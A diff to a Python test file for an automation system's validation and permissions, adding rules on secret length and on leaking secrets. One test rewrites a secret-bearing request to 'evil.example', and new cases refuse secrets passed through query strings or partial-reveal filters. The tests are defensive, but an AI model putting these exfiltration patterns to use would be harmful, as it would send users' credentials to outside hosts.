@@ -90,7 +90,10 @@ BAD = [
         {"steps": [do("comment.create", message="{{ steps.later.key }}"), do("box.create", "later", name="x")]},
         "steps[0]",
     ),
-    ({"steps": [do("comment.create", message="{{ secrets.KEY }}")], "secrets": {"KEY": "x"}}, "steps[0].with.message"),
+    (
+        {"steps": [do("comment.create", message="{{ secrets.KEY }}")], "secrets": {"KEY": "x" * 8}},
+        "steps[0].with.message",
+    ),
     ({"steps": [do("comment.create", message="{{ task.text }}")]}, "steps[0].with.message"),
     ({"steps": [do("box.move", stage="Nowhere")]}, "steps[0].with.stage"),
     ({"steps": [do("box.setFields", fields={"Nope": 1})]}, "steps[0].with.fields.Nope"),
@@ -108,7 +111,7 @@ BAD = [
     ({"steps": [{**do("branch", condition="true"), "then": [do("box.move")]}]}, "steps[0].then[0].with.stage"),
     ({"steps": [do("http.request", url="ftp://x.example")]}, "steps[0].with.url"),
     (
-        {"steps": [do("http.request", url="https://x.example/{{ secrets.K }}")], "secrets": {"K": "x"}},
+        {"steps": [do("http.request", url="https://x.example/{{ secrets.K }}")], "secrets": {"K": "long-enough"}},
         "steps[0].with.url",
     ),
     ({"steps": [do("http.request", url="https://x.example", method="BREW")]}, "steps[0].with.method"),
@@ -124,6 +127,27 @@ BAD = [
     ({"steps": [SAY] * 101}, "steps[100]"),
     ({"secrets": {"a b": "x"}}, "secrets.a b"),
     ({"secrets": {"a": 5}}, "secrets.a"),
+    ({"secrets": {"a": "7 chars"}}, "secrets.a"),
+    ({"secrets": {"a": "         "}}, "secrets.a"),
+    (
+        {
+            "steps": [do("http.request", url="https://x.example", query={"k": "{{ secrets.K }}"})],
+            "secrets": {"K": "long-enough"},
+        },
+        "steps[0].with.query",
+    ),
+    *(
+        (
+            {
+                "steps": [
+                    do("http.request", url="https://x.example", json={"a": [{"b": f"{{{{ secrets.K | {name} }}}}"}]})
+                ],
+                "secrets": {"K": "long-enough"},
+            },
+            "steps[0].with.json",
+        )
+        for name in ("truncate(3)", "first", "last", "length", "split", "upper | number", "json | date")
+    ),
     ({"name": ""}, "name"),
     ({"condition": 'fields["Sise"] > 1'}, "condition"),
     ({"condition": "box.fields.Sise > 1"}, "condition"),
@@ -154,7 +178,7 @@ def test_steps_that_need_a_box_are_refused_without_a_box(world):
 
 def test_who_may_see_and_change_automations(world):
     pipeline = world.pipeline()
-    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret"})
+    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret-1"})
     other = f"/api/v2/pipelines/{pipeline['key']}/automations"
     refused(world.cy.http.get(rule.own), 404)
     refused(world.cy.http.get(other), 404)
@@ -176,18 +200,18 @@ def test_who_may_see_and_change_automations(world):
 def test_the_user_who_changes_the_steps_becomes_the_owner_without_the_secrets(world):
     pipeline = world.pipeline()
     send = do("http.request", url="https://example.com/", headers={"K": "{{ secrets.KEY }}"})
-    rule = Rule(world, pipeline, "box.created", send, secrets={"KEY": "s3cret"})
+    rule = Rule(world, pipeline, "box.created", send, secrets={"KEY": "s3cret-1"})
     assert ok(world.bo.http.post(rule.own, json={"name": "Renamed"}))["ownerKey"] == world.ada.user_key
     assert ok(world.bo.http.post(f"{rule.own}/disable"))["ownerKey"] == world.ada.user_key
     stolen = {**send, "with": {**send["with"], "url": "https://evil.example/"}}
     refused(world.bo.http.post(rule.own, json={"steps": [stolen]}), 400, "secrets")
-    changed = ok(world.bo.http.post(rule.own, json={"steps": [stolen], "secrets": {"KEY": "own"}}))
+    changed = ok(world.bo.http.post(rule.own, json={"steps": [stolen], "secrets": {"KEY": "own-secret"}}))
     assert (changed["ownerKey"], changed["secrets"]) == (world.bo.user_key, ["KEY"])
 
 
 def test_a_deleted_automation_is_restored_switched_off_and_a_change_is_undone(world):
     pipeline = world.pipeline()
-    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret"})
+    rule = Rule(world, pipeline, "box.created", SAY, secrets={"KEY": "s3cret-1"})
     ok(rule.http.delete(rule.own))
     (trashed,) = ok(world.ada.http.get("/api/v2/trash", params={"noun": "automation"}))["results"]
     ok(world.ada.http.post(f"/api/v2/trash/{trashed['key']}/restore"))
